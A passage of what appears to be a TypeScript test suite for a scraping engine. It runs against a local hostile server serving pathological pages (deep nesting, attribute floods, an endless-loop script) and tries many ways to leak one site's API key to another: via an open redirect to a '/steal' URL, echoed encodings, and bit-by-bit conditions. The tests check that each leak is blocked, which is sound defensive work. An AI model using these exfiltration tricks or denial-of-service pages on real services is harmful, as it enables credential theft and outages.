// The HTTP engine against a hostile website: a real HTTP server on loopback (mapped as
// hostile.example.test) that answers with pathological documents. What is asserted is what a caller
// and every other organization on the worker see: the run's code and details, and that the
// worker's one thread was never blocked for long (every organization's runs share it).
import { readdirSync, readFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRecipeRunner, type RecipeRunner, type RunContext } from '../activities/engines/index.ts';
import { HttpDriver, createHttpDispatcher } from '../activities/engines/http-engine.ts';
import { Interpreter, makeUrlCheck } from '../activities/engines/interpreter.ts';
import { ServiceError } from '../shared/errors.ts';
import { MAX_TEXT } from '../activities/engines/extract.ts';
import { isFinalRefusal, redact, secretSpellings } from '../activities/engines/errors.ts';
import type { Recipe } from '../shared/recipes/schema.ts';

const HOST = 'hostile.example.test';
/** Two sites a caller has connected, both served by the same server. */
const SITE_A = 'site-a.example.test';
const SITE_B = 'site-b.example.test';
let server: http.Server;
let runner: RecipeRunner;
/** The engines' host map: every test host to the server. */
let hostMap: Record<string, string>;
/** Every request the server received: host, URL, headers and body as they arrived. */
const received: Array<{ host: string; text: string }> = [];

/** Documents the server answers with, by path. */
const pages: Record<string, () => string> = {
  // 30,000 nested elements (150 KB)
  '/nested': () => `<html><body>${'<div>'.repeat(30_000)}<p class="x">deep</p></body></html>`,
  // one tag with 40,000 attributes (270 KB)
  '/attributes': () => `<html><body><p class="x" ${Array.from({ length: 40_000 }, (_, i) => `a${i}`).join(' ')}>wide</p></body></html>`,
  // a 200 KB title repeating a challenge word, never closed
  '/title': () => `<html><body><p class="x">words</p><title>${'captcha '.repeat(25_000)}`,
  // a small page whose script writes 8 MB of markup into itself (the browser engine reads the rendered
  // DOM); in a thousand elements, not a million, so Chromium builds it in a moment even on a busy machine
  '/grows': () => `<html><body><p class="x">grown</p><script>document.body.insertAdjacentHTML('beforeend', ('<i>' + 'a'.repeat(8_000) + '</i>').repeat(1_000))</script></body></html>`,
  // an ordinary page just under the 5 MiB body limit: 13,000 table rows of links, prices and comments
  // (143,000 nodes, within MAX_HTML_NODES: rows of a real shop's listing carry this much markup)
  '/big': () => {
    const rows: string[] = [];
    for (let i = 0, size = 0; size < 5 * 1024 * 1024 - 1024; i++) {
      const row =
        `<tr class="r" data-id="${i}"><td class="name"><a href="/catalogue/item-${i}/index.html" title="Item ${i}, a product name as long as shops write them">Item ${i} &amp; more, a product name as long as shops write them</a></td>` +
        `<td class="price" data-currency="GBP">${i}.99</td><td class="notes"><span data-x="${i}">text ${i}, with the kind of description a listing carries</span><!-- c${i} --></td></tr>\n`;
      rows.push(row);
      size += row.length + (i === 0 ? 200 : 0);
    }
    rows.pop();
    return `<!doctype html><html><head><title>Big</title></head><body><table>${rows.join('')}</table><p class="x">end</p></body></html>`;
  },
  // a page whose script never yields once it has loaded: the renderer's thread is taken for good
  '/spins': () => `<html><body><p class="x">spins</p><script>addEventListener('load', () => setTimeout(() => { for (;;) {} }, 0))</script></body></html>`,
  // 500 list items: a selector of sibling steps matches each against every earlier one, and again
  '/siblings': () => `<html><body><ul>${'<li>item</li>'.repeat(500)}</ul><p class="x">end</p></body></html>`,
  // 400 levels of div and no span: nested :has() looks under every level again for every level
  '/deep-span': () => `<html><body>${'<div>'.repeat(400)}<b>s</b>${'</div>'.repeat(400)}<p class="x">end</p></body></html>`,
  // 500 nested elements (within the 512 bound) over 100 KB of text: each element's text and markup hold all of it
  '/nested-text': () => `<html><body>${'<div>a'.repeat(500)}${'x'.repeat(100_000)}</body></html>`,
  // a real page near the bounds: 400 levels deep, an element with 200 attributes
  '/busy': () =>
    `<html><body>${'<div>'.repeat(400)}<p class="x" ${Array.from({ length: 200 }, (_, i) => `data-a${i}="v${i}"`).join(' ')}>fine</p>${'</div>'.repeat(400)}</body></html>`,
};

const ctx = (): RunContext => ({ signal: AbortSignal.timeout(60_000), heartbeat() {}, requestRef: 'req_hostile_0001', party: 'org_hostile' });

const page = (path: string): Recipe => ({
  engine: 'http',
  hosts: [HOST],
  steps: [
    { type: 'request', url: `http://${HOST}${path}`, parse: 'html', save_as: 'raw' },
    { type: 'extract', fields: { text: { type: 'text', selector: 'p.x' } }, save_as: 'p' },
  ],
  output: { text: '{{vars.p.text}}' },
});

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** CPU time (ms) spent so far by the Chromium renderers this test process started, from /proc. */
function rendererCpuMs(): number {
  // Fields after the parenthesized command name: [1] is the parent, [11] and [12] utime and stime.
  const stat = (pid: string) => readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]!.split(' ');
  const mine = (pid: string) => {
    for (let p = pid, depth = 0; p !== '0' && p !== '1' && depth < 8; depth++) {
      if (p === String(process.pid)) return true;
      p = stat(p)[1]!;
    }
    return false;
  };
  let ticks = 0;
  for (const pid of readdirSync('/proc').filter((d) => /^\d+$/.test(d))) {
    try {
      if (!readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('--type=renderer') || !mine(pid)) continue;
      const fields = stat(pid);
      ticks += Number(fields[11]) + Number(fields[12]);
    } catch {
      // gone meanwhile
    }
  }
  return (ticks * 1000) / 100; // USER_HZ is 100 on Linux
}

/** Runs a recipe while a timer measures the longest the thread went without running it. */
async function timed(recipe: Recipe): Promise<{ result?: unknown; error?: ServiceError; stallMs: number }> {
  let last = performance.now();
  let stallMs = 0;
  const gap = () => {
    const now = performance.now();
    stallMs = Math.max(stallMs, now - last);
    last = now;
  };
  const tick = setInterval(gap, 20);
  let outcome: { result?: unknown; error?: ServiceError };
  try {
    outcome = { result: await runner.run(recipe, {}, ctx()) };
  } catch (e) {
    if (!(e instanceof ServiceError)) throw e;
    outcome = { error: e };
  } finally {
    gap(); // the run may end right after a long synchronous stretch, before the timer runs again
    clearInterval(tick);
  }
  return { ...outcome, stallMs };
}

beforeAll(async () => {
  server = http.createServer(async (req, res) => {
    let body = '';
    for await (const chunk of req) body += chunk;
    received.push({ host: String(req.headers.host), text: `${req.url} ${JSON.stringify(req.headers)} ${body}` });
    if (req.url === '/deep-json') return void res.writeHead(200, { 'content-type': 'application/json' }).end(`{"list":${'['.repeat(20_000)}1${']'.repeat(20_000)}}`);
    if (req.url === '/many') return void res.writeHead(200, { 'content-type': 'application/json' }).end(`[${'0,'.repeat(2_000_000)}0]`);
    if (req.url === '/bad-redirect') return void res.writeHead(302, { location: 'http://[::1' }).end();
    // 200,000 items on one page: past the arguments limit of a spread (push(...list)).
    if (req.url === '/long-list') return void res.writeHead(200, { 'content-type': 'application/json' }).end(`[${'0,'.repeat(199_999)}0]`);
    if (req.url?.startsWith('/go?')) {
      // An open redirect: the site sends the client wherever `to` says (a sign-in page's "return to").
      const to = new URL(req.url, 'http://x').searchParams.get('to') ?? '/';
      return void res.writeHead(302, { location: new URL(to).href }).end();
    }
    if (req.url === '/form') return void res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>Form</title><form action="/sent" method="post"><input name="q" id="q"></form>');
    if (req.url === '/later-b') {
      // A page of site A with no field yet that sends the browser on to site B a moment later (a
      // sign-in page's client-side redirect, say).
      return void res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><title>Wait</title><p>One moment</p><script>setTimeout(() => { location.href = 'http://${SITE_B}/typed' }, 300)</script>`);
    }
    if (req.url === '/typed') {
      // Site B's page: what is typed into its field is sent to it at once.
      return void res
        .writeHead(200, { 'content-type': 'text/html' })
        .end(`<!doctype html><title>Typed</title><input id="q"><select id="s"></select><script>q.addEventListener('input', () => fetch('/got?v=' + encodeURIComponent(q.value)))</script>`);
    }
    if (req.url === '/echo') {
      // A site that echoes the key it was sent, the ways sites do: in a next link, in a form field, in JSON text, base64.
      const key = String(req.headers['x-api-key']);
      const html = key.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c]!);
      return void res.writeHead(200, { 'content-type': 'application/json' }).end(
        JSON.stringify({
          next: `http://${SITE_A}/items?page=2&${new URLSearchParams({ api_key: key })}`,
          form: `<input name="key" value="${html}">`,
          text: JSON.stringify({ key }),
          token: Buffer.from(key).toString('base64'),
        }),
      );
    }
    if (req.url === '/echo-loud') {
      // A site that echoes the key in another case, or inside a credential it encodes (HTTP Basic's base64 of "user:key").
      const key = String(req.headers['x-api-key']);
      return void res.writeHead(200, { 'content-type': 'application/json' }).end(
        JSON.stringify({ upper: `KEY: ${key.toUpperCase()}`, basic: `Basic ${Buffer.from(`caller:${key}`).toString('base64')}` }),
      );
    }
    if (req.url?.startsWith('/show?')) {
      // A page of site A that shows what it was sent in an attribute (an account page showing its key).
      const k = new URL(req.url, 'http://x').searchParams.get('k') ?? '';
      const attr = k.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c]!);
      return void res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(`<!doctype html><title>Account</title><p><a id="go" href="#" data-k="${attr}">Your key</a></p>`);
    }
    if (req.url?.startsWith('/reflect?')) {
      // A site that shows what it was sent (a search page's "results for …"), as JSON.
      return void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ q: new URL(req.url, 'http://x').searchParams.get('q') }));
    }
    if (req.headers.host !== HOST) return void res.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}');
    const make = pages[req.url ?? ''];
    if (!make) return void res.writeHead(404).end();
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(make());
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const to = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  hostMap = { [HOST]: to, [SITE_A]: to, [SITE_B]: to, [`api.${SITE_A}`]: to, [`${SITE_A}.${SITE_B}`]: to };
  runner = createRecipeRunner({ hostMap });
});
afterAll(async () => {
  await runner?.close();
  await new Promise((resolve) => server?.close(resolve));
});

describe('pathological HTML never blocks the worker', () => {
  it('a page nested 30,000 deep is refused as document_too_complex at once', async () => {
    const { error, stallMs } = await timed(page('/nested'));
    expect(error?.code).toBe('upstream_http_error');
    expect(error?.details).toMatchObject({ reason: 'document_too_complex', step: '1' });
    expect(error?.message).toMatch(/nested more than 512 deep/);
    expect(stallMs).toBeLessThan(1_000);
  });

  it('a tag with 40,000 attributes is refused as document_too_complex at once', async () => {
    const { error, stallMs } = await timed(page('/attributes'));
    expect(error?.code).toBe('upstream_http_error');
    expect(error?.details).toMatchObject({ reason: 'document_too_complex', step: '1' });
    expect(error?.message).toMatch(/more than 256 attributes/);
    expect(stallMs).toBeLessThan(1_000);
  });

  it('a huge unclosed title of challenge words is read at once (and is not a challenge)', async () => {
    const { result, error, stallMs } = await timed(page('/title'));
    expect(error).toBeUndefined();
    expect(result).toEqual({ text: 'words' });
    expect(stallMs).toBeLessThan(1_000);
  });

  it('a page that writes 8 MB of markup into itself is refused in the browser, not read', async () => {
    const recipe: Recipe = {
      engine: 'browser',
      hosts: [HOST],
      steps: [
        { type: 'navigate', url: `http://${HOST}/grows` },
        { type: 'extract', fields: { text: { type: 'text', selector: 'p.x' } }, save_as: 'p' },
      ],
      output: { text: '{{vars.p.text}}' },
    };
    // Chromium starts outside the measurement: the check is on reading the page, not on a launch.
    await runner.run({ engine: 'browser', hosts: [HOST], steps: [{ type: 'navigate', url: `http://${HOST}/busy` }], output: null }, {}, ctx());
    const { result, error, stallMs } = await timed(recipe);
    expect(result).toBeUndefined();
    expect(error?.code).toBe('upstream_http_error');
    expect(error?.details).toMatchObject({ step: '0', host: HOST, reason: 'response_too_large' }); // read by the navigation's challenge check
    expect(stallMs).toBeLessThan(1_000);
  });

  it("a page whose script never yields fails the run at the action timeout, not the run's deadline, and the page is gone", async () => {
    const recipe: Recipe = {
      engine: 'browser',
      hosts: [HOST],
      steps: [
        { type: 'navigate', url: `http://${HOST}/spins` },
        { type: 'extract', fields: { text: { type: 'text', selector: 'p.x' } }, save_as: 'p' },
      ],
      output: { text: '{{vars.p.text}}' },
    };
    const started = performance.now();
    const { result, error } = await timed(recipe); // the run's own deadline is a minute (ctx())
    const elapsed = performance.now() - started;
    expect(result).toBeUndefined();
    expect(error?.code).toBe('workflow_execution_failed');
    expect(error?.details).toMatchObject({ step: '0', reason: 'browser_timeout' });
    expect(elapsed).toBeLessThan(30_000);
    // The spinning page went with its context: no renderer keeps a core busy afterwards
    await sleep(500); // (the context's close is under way as the run answers)
    const before = rendererCpuMs();
    await sleep(2_000);
    expect(rendererCpuMs() - before).toBeLessThan(500);
    // and the browser's next run is served at once.
    const again = performance.now();
    const ok = await runner.run({ engine: 'browser', hosts: [HOST], steps: [{ type: 'navigate', url: `http://${HOST}/busy` }, { type: 'extract', fields: { text: { type: 'text', selector: 'p.x' } }, save_as: 'p' }], output: { text: '{{vars.p.text}}' } }, {}, ctx());
    expect(ok).toEqual({ text: 'fine' });
    expect(performance.now() - again).toBeLessThan(10_000);
  });

  it('an ordinary 5 MiB page is parsed a slice at a time: the thread goes on with other work meanwhile', async () => {
    const started = performance.now();
    const { result, error, stallMs } = await timed(page('/big'));
    const elapsed = performance.now() - started;
    expect(error).toBeUndefined();
    expect(result).toEqual({ text: 'end' });
    // Parsing it takes parse5 about a second (several on a busy machine). In one piece, the longest
    // stall was nearly all of the run; in slices, it is a small part of it, whatever the machine's speed.
    expect(stallMs, `longest stall ${Math.round(stallMs)} ms of a ${Math.round(elapsed)} ms run`).toBeLessThan(elapsed / 4);
  });

  it('a selector that would hold the thread for a minute ends the run at its work budget, a failure of the recipe', async () => {
    const costly = (path: string, selector: string): Recipe => ({
      ...page(path),
      steps: [
        { type: 'request', url: `http://${HOST}${path}`, parse: 'html', save_as: 'raw' },
        { type: 'extract', fields: { n: { type: 'count', selector } }, save_as: 'p' },
      ],
      output: { n: '{{vars.p.n}}' },
    });
    // Unbounded, these took 59 s, 43 s and 16 s of one thread (every organization's runs on the worker waited).
    for (const [path, selector] of [
      ['/siblings', 'li.none ~ li ~ li ~ li'],
      ['/deep-span', 'div:has(div:has(div:has(span)))'],
      ['/big', 'tr:nth-child(2n)'],
    ] as const) {
      const { error, stallMs } = await timed(costly(path, selector));
      expect(error?.code, selector).toBe('workflow_execution_failed');
      expect(error?.message).toContain(`the selector "${selector}" needs more work than a page may take`);
      expect(stallMs, selector).toBeLessThan(5_000);
    }
  });

  it('ordinary selectors over a 5 MiB page of 13,000 rows stay within the work budget', async () => {
    const { result, error } = await timed({
      ...page('/big'),
      steps: [
        { type: 'request', url: `http://${HOST}/big`, parse: 'html', save_as: 'raw' },
        {
          type: 'extract',
          fields: {
            rows: { type: 'count', selector: 'table tr.r' },
            prices: { type: 'count', selector: 'tr.r > td.price' },
            marked: { type: 'count', selector: 'td.price + td span[data-x]' },
            second: { type: 'count', selector: 'td:nth-child(2)' },
            last: { type: 'text', selector: 'body > p.x' },
          },
          save_as: 'p',
        },
      ],
      output: { rows: '{{vars.p.rows}}', prices: '{{vars.p.prices}}', marked: '{{vars.p.marked}}', second: '{{vars.p.second}}', last: '{{vars.p.last}}' },
    });
    expect(error).toBeUndefined();
    const rows = Number((result as { rows: unknown }).rows);
    expect(rows).toBeGreaterThan(12_000);
    expect(result).toMatchObject({ prices: rows, marked: rows, second: rows, last: 'end' });
  });

  it("a list of 500 nested elements, each holding the page's 100 KB of text, is read within the work budget", async () => {
    const list = (type: 'text' | 'html'): Recipe => ({
      ...page('/nested-text'),
      steps: [
        { type: 'request', url: `http://${HOST}/nested-text`, parse: 'html', save_as: 'raw' },
        { type: 'extract', fields: { items: { type: 'list', selector: 'div', item: { type } } }, save_as: 'p' },
      ],
      output: { n: '{{vars.p.items.length}}', first: '{{vars.p.items[0]}}', last: '{{vars.p.items[499]}}' },
    });
    // Each item's text, cut at MAX_TEXT: cheerio built each one whole, anew at every level (13 s of
    // the thread for this page; time grew with the square of the depth times the page's size).
    const text = await timed(list('text'));
    expect(text.error).toBeUndefined();
    expect(text.result).toEqual({ n: 500, first: ('a'.repeat(500) + 'x'.repeat(MAX_TEXT)).slice(0, MAX_TEXT), last: 'a' + 'x'.repeat(MAX_TEXT - 1) });
    expect(text.stallMs).toBeLessThan(1_000);
    // Their markup is not cut (a recipe may read it again): writing the page again for each item
    // ends at the page's work budget, a failure of the recipe on this page.
    const html = await timed(list('html'));
    expect(html.error?.code).toBe('workflow_execution_failed');
    expect(html.error?.details).toMatchObject({ step: '1' });
    expect(html.error?.message).toContain('reading the markup of the elements matched needs more work than a page may take');
    expect(html.stallMs).toBeLessThan(1_000);
  });

  it('a deep and attribute-heavy page within the bounds is read as before', async () => {
    const { result, error } = await timed(page('/busy'));
    expect(error).toBeUndefined();
    expect(result).toEqual({ text: 'fine' });
  });
});

describe("a connection's secret goes only to its site", () => {
  // The caller's connections: an access key for site A and one for site B. A shared workflow may
  // need both (its hosts are then both sites); its author must still not be able to send A's key to B.
  const A_KEY = 'key-for-site-a "é&/+ 1';
  const B_KEY = 'key_for_site_b_2';
  const secrets = { A_KEY, B_KEY };
  const secretSites = { A_KEY: SITE_A, B_KEY: SITE_B };
  const run = (steps: Recipe['steps']) =>
    runner.run({ engine: 'http', hosts: [SITE_A, SITE_B], secrets: ['A_KEY', 'B_KEY'], steps, output: { ok: true } }, {}, { ...ctx(), secrets, secretSites }).then(
      () => null,
      (e: ServiceError) => e,
    );
  // Whatever the case of its letters (a site may echo it upper-cased); base64 spellings as they are.
  const leakedToB = () =>
    received.filter((r) => r.host === SITE_B && secretSpellings(A_KEY).some((f) => r.text.toLowerCase().includes(f.toLowerCase())));

  it('each key reaches its own site', async () => {
    received.length = 0;
    const e = await run([
      { type: 'request', url: `http://${SITE_A}/a`, headers: { 'x-api-key': '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'a' },
      { type: 'request', url: `http://${SITE_B}/b`, query: { key: '{{secrets.B_KEY}}' }, parse: 'json', save_as: 'b' },
    ]);
    expect(e).toBeNull();
    expect(received.map((r) => r.host)).toEqual([SITE_A, SITE_B]);
  });

  it("a key for a site also reaches the hosts under it, never a host that merely ends with the site's name", async () => {
    received.length = 0;
    const run2 = (host: string) =>
      runner.run({ engine: 'http', hosts: [host], secrets: ['A_KEY'], steps: [{ type: 'request', url: `http://${host}/a`, headers: { 'x-api-key': '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'a' }], output: { ok: true } }, {}, { ...ctx(), secrets, secretSites }).then(
        () => null,
        (e: ServiceError) => e,
      );
    expect(await run2(`api.${SITE_A}`)).toBeNull();
    expect((await run2(`${SITE_A}.${SITE_B}`))?.details).toMatchObject({ reason: 'secret_not_for_host' });
    expect(received.map((r) => r.host)).toEqual([`api.${SITE_A}`]);
  });

  it("a connection's site names its host however it is spelled (upper case, a fully qualified name's trailing dot)", async () => {
    received.length = 0;
    const e = await runner
      .run(
        { engine: 'http', hosts: [SITE_A], secrets: ['A_KEY'], steps: [{ type: 'request', url: `http://${SITE_A}/a`, headers: { 'x-api-key': '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'a' }], output: { ok: true } },
        {},
        { ...ctx(), secrets, secretSites: { A_KEY: `${SITE_A.toUpperCase()}.` } },
      )
      .then(
        () => null,
        (err: ServiceError) => err,
      );
    expect(e).toBeNull();
    expect(received.map((r) => r.host)).toEqual([SITE_A]);
  });

  const attempts: Array<[string, Recipe['steps']]> = [
    ['in a header', [{ type: 'request', url: `http://${SITE_B}/b`, headers: { 'x-api-key': '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'b' }]],
    ['in the query', [{ type: 'request', url: `http://${SITE_B}/b`, query: { k: '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'b' }]],
    ['in the path', [{ type: 'request', url: `http://${SITE_B}/b/{{secrets.A_KEY}}`, parse: 'json', save_as: 'b' }]],
    ['in a JSON body', [{ type: 'request', method: 'POST', url: `http://${SITE_B}/b`, json: { k: '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'b' }]],
    ['in a form', [{ type: 'request', method: 'POST', url: `http://${SITE_B}/b`, form: { k: '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'b' }]],
    [
      'through a variable',
      [
        { type: 'set', var: 'v', value: { wrapped: 'x{{secrets.A_KEY}}x' } },
        { type: 'request', method: 'POST', url: `http://${SITE_B}/b`, json: { k: '{{vars.v}}' }, parse: 'json', save_as: 'b' },
      ],
    ],
    [
      // Site A shows its own key back (base64 here, HTML-escaped in a form field): the recipe reads
      // it from A's answer and passes it on, never naming the secret in the step that sends it.
      'after site A echoed it back encoded',
      [
        { type: 'request', url: `http://${SITE_A}/echo`, headers: { 'x-api-key': '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'echo' },
        { type: 'request', method: 'POST', url: `http://${SITE_B}/b`, json: { t: '{{vars.echo.token}}' }, parse: 'json', save_as: 'b' },
      ],
    ],
    [
      'after site A echoed it back in markup',
      [
        { type: 'request', url: `http://${SITE_A}/echo`, headers: { 'x-api-key': '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'echo' },
        { type: 'request', url: `http://${SITE_B}/b`, query: { f: '{{vars.echo.form}}' }, parse: 'json', save_as: 'b' },
      ],
    ],
    [
      // Site A shows it back in capitals: the same key to anyone who lower-cases it again.
      'after site A echoed it back upper-cased',
      [
        { type: 'request', url: `http://${SITE_A}/echo-loud`, headers: { 'x-api-key': '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'echo' },
        { type: 'request', url: `http://${SITE_B}/b`, query: { u: '{{vars.echo.upper}}' }, parse: 'json', save_as: 'b' },
      ],
    ],
    [
      'after site A echoed it back inside a base64 credential',
      [
        { type: 'request', url: `http://${SITE_A}/echo-loud`, headers: { 'x-api-key': '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'echo' },
        { type: 'request', url: `http://${SITE_B}/b`, headers: { 'x-note': '{{vars.echo.basic}}' }, parse: 'json', save_as: 'b' },
      ],
    ],
    // A site with an open redirect sends the engine on with whatever the request told it to: each
    // hop is checked like the request itself, on its URL, before it is sent.
    [
      "through site A's open redirect, in the URL site A redirects to",
      [{ type: 'request', url: `http://${SITE_A}/go`, query: { to: `http://${SITE_B}/steal?k={{secrets.A_KEY}}` }, parse: 'json', save_as: 'b' }],
    ],
    [
      "in a piece cut out by an extraction pattern, through site A's open redirect",
      [
        { type: 'set', var: 's', value: '{{secrets.A_KEY}}' },
        { type: 'extract', from: { var: 's' }, fields: { head: { type: 'text', pattern: '^(.{6})' } }, save_as: 'p' },
        { type: 'request', url: `http://${SITE_A}/go`, query: { to: `http://${SITE_B}/steal?k={{vars.p.head}}` }, parse: 'json', save_as: 'b' },
      ],
    ],
    [
      // Site A had a piece of it before: where it redirects may hold it, as any answer read after may.
      'by a redirect site A chose after the run had sent it a piece of the key',
      [
        { type: 'set', var: 's', value: '{{secrets.A_KEY}}' },
        { type: 'extract', from: { var: 's' }, fields: { head: { type: 'text', pattern: '^(.{6})' } }, save_as: 'p' },
        { type: 'request', url: `http://${SITE_A}/reflect?q={{vars.p.head}}`, parse: 'json', save_as: 'r' },
        { type: 'request', url: `http://${SITE_A}/go`, query: { to: `http://${SITE_B}/b` }, parse: 'json', save_as: 'b' },
      ],
    ],
    [
      'as a URL built in a variable',
      [
        { type: 'set', var: 'u', value: `http://${SITE_B}/b?k={{secrets.A_KEY}}` },
        { type: 'request', url: '{{vars.u}}', parse: 'json', save_as: 'b' },
      ],
    ],
    // Values computed from the key by extraction hold none of its spellings: a piece cut out by
    // a field's pattern, a character at a time, an answer to a selector. Each is the key's as much
    // as the key itself: it goes to site A (and the hosts under it) only.
    [
      'in two pieces cut out by extraction patterns',
      [
        { type: 'set', var: 's', value: '{{secrets.A_KEY}}' },
        { type: 'extract', from: { var: 's' }, fields: { head: { type: 'text', pattern: '^(.{6})' }, tail: { type: 'text', pattern: '^.{6}(.*)$' } }, save_as: 'p' },
        { type: 'request', url: `http://${SITE_B}/b`, query: { h: '{{vars.p.head}}', t: '{{vars.p.tail}}' }, parse: 'json', save_as: 'b' },
      ],
    ],
    [
      'a bit at a time, as the answer to a selector',
      [
        { type: 'set', var: 's', value: '<i data-k="{{secrets.A_KEY}}"></i>' },
        { type: 'extract', from: { var: 's' }, fields: { k: { type: 'exists', selector: 'i[data-k^="k"]' } }, save_as: 'bits' },
        { type: 'request', url: `http://${SITE_B}/b`, query: { b: '{{vars.bits.k}}' }, parse: 'json', save_as: 'b' },
      ],
    ],
    [
      'a character of it read from a JSON value, passed on through another variable',
      [
        { type: 'set', var: 'o', value: { k: '{{secrets.A_KEY}}' } },
        { type: 'extract', from: { var: 'o' }, fields: { c: { type: 'text', pointer: '/k', pattern: '^(.)' } }, save_as: 'p' },
        { type: 'set', var: 'q', value: { x: ['{{vars.p.c}}'] } },
        { type: 'request', method: 'POST', url: `http://${SITE_B}/b`, json: { q: '{{vars.q}}' }, parse: 'json', save_as: 'b' },
      ],
    ],
    [
      "a piece of site A's echo of it, cut out by a pattern",
      [
        { type: 'request', url: `http://${SITE_A}/echo`, headers: { 'x-api-key': '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'echo' },
        { type: 'extract', from: { var: 'echo' }, fields: { t: { type: 'text', pointer: '/text', pattern: 'key":"(.{6})' } }, save_as: 'p' },
        { type: 'request', url: `http://${SITE_B}/b`, query: { t: '{{vars.p.t}}' }, parse: 'json', save_as: 'b' },
      ],
    ],
    [
      'in a piece that site A showed back',
      [
        { type: 'set', var: 's', value: '{{secrets.A_KEY}}' },
        { type: 'extract', from: { var: 's' }, fields: { head: { type: 'text', pattern: '^(.{6})' } }, save_as: 'p' },
        { type: 'request', url: `http://${SITE_A}/reflect?q={{vars.p.head}}`, parse: 'json', save_as: 'r' },
        { type: 'request', url: `http://${SITE_B}/b`, query: { q: '{{vars.r.q}}' }, parse: 'json', save_as: 'b' },
      ],
    ],
    [
      'in the pieces a pagination collected',
      [
        { type: 'set', var: 's', value: '{{secrets.A_KEY}}' },
        {
          type: 'paginate',
          steps: [{ type: 'extract', from: { var: 's' }, fields: { items: { type: 'list', selector: 'body', item: { type: 'text', pattern: '^(.{6})' } } }, save_as: 'page' }],
          collect: 'page.items',
          save_as: 'all',
          limit: 1,
          next: { kind: 'counter' },
        },
        { type: 'request', url: `http://${SITE_B}/b`, query: { a: '{{vars.all}}' }, parse: 'json', save_as: 'b' },
      ],
    ],
    // A condition or a loop that reads such a value decides what the run sends next: whether a
    // request to site B happens at all, how many pages a counter counts. One bit each, as many
    // as the recipe has conditions.
    [
      'a bit at a time, as whether the run goes on to site B',
      [
        { type: 'set', var: 's', value: '{{secrets.A_KEY}}' },
        { type: 'extract', from: { var: 's' }, fields: { k: { type: 'text', pattern: '^(k)' } }, save_as: 'bits' },
        { type: 'not_found', when: { missing: { var: 'bits', pointer: '/k' } } },
        { type: 'request', url: `http://${SITE_B}/b`, query: { bit: '1' }, parse: 'json', save_as: 'b' },
      ],
    ],
    [
      'as the number of pages a pagination read',
      [
        { type: 'set', var: 's', value: '{{secrets.A_KEY}}' },
        {
          type: 'paginate',
          steps: [{ type: 'extract', from: { var: 's' }, fields: { items: { type: 'list', selector: 'body', item: { type: 'text', pattern: '^(k)' } } }, save_as: 'found' }],
          collect: 'found.items',
          save_as: 'all',
          limit: 3,
          next: { kind: 'counter' },
        },
        { type: 'request', url: `http://${SITE_B}/b`, query: { pages: '{{vars.page}}' }, parse: 'json', save_as: 'b' },
      ],
    ],
  ];
  it('a redirect from site A to site B carrying no key goes on, and the key sent to site A in a header stays behind', async () => {
    received.length = 0;
    const e = await run([
      { type: 'request', url: `http://${SITE_A}/go`, query: { to: `http://${SITE_B}/b?n=1` }, headers: { 'x-api-key': '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'b' },
    ]);
    expect(e).toBeNull();
    expect(received.map((r) => r.host)).toEqual([SITE_A, SITE_B]);
    expect(leakedToB()).toEqual([]);
  });

  it('a value read from site A by extraction still goes to site A, and clean values to site B', async () => {
    received.length = 0;
    const e = await run([
      { type: 'set', var: 's', value: '{{secrets.A_KEY}}' },
      { type: 'extract', from: { var: 's' }, fields: { head: { type: 'text', pattern: '^(.{6})' } }, save_as: 'p' },
      { type: 'request', url: `http://${SITE_A}/reflect?q={{vars.p.head}}`, parse: 'json', save_as: 'r' },
      { type: 'set', var: 'clean', value: { n: 1 } },
      { type: 'extract', from: { var: 'clean' }, fields: { n: { type: 'integer', pointer: '/n' } }, save_as: 'c' },
      { type: 'not_found', when: { missing: { var: 'c', pointer: '/n' } } },
      { type: 'request', url: `http://${SITE_B}/b`, query: { n: '{{vars.c.n}}' }, parse: 'json', save_as: 'b' },
    ]);
    expect(e).toBeNull();
    expect(received.map((r) => r.host)).toEqual([SITE_A, SITE_B]);
    expect(received[1]!.text).toContain('/b?n=1 ');
  });
  it("the browser never types a key for site A into site B's page", async () => {
    received.length = 0;
    const e = await runner
      .run(
        {
          engine: 'browser',
          hosts: [SITE_A, SITE_B],
          secrets: ['A_KEY', 'B_KEY'],
          steps: [
            { type: 'navigate', url: `http://${SITE_A}/form` },
            { type: 'fill', selector: '#q', value: '{{secrets.A_KEY}}' },
            { type: 'navigate', url: `http://${SITE_B}/form` },
            { type: 'fill', selector: '#q', value: '{{secrets.A_KEY}}' },
          ],
          output: { ok: true },
        },
        {},
        { ...ctx(), secrets, secretSites },
      )
      .then(
        () => null,
        (err: ServiceError) => err,
      );
    expect(e).toBeInstanceOf(ServiceError);
    expect(e!.code).toBe('workflow_execution_failed');
    expect(e!.details).toMatchObject({ step: '3', host: SITE_B, reason: 'secret_not_for_host' });
    expect(received.map((r) => r.host)).toEqual([SITE_A, SITE_B]);
  });

  it("the browser never types a key for site A into a page of site B that site A's page turned into after the check", async () => {
    received.length = 0;
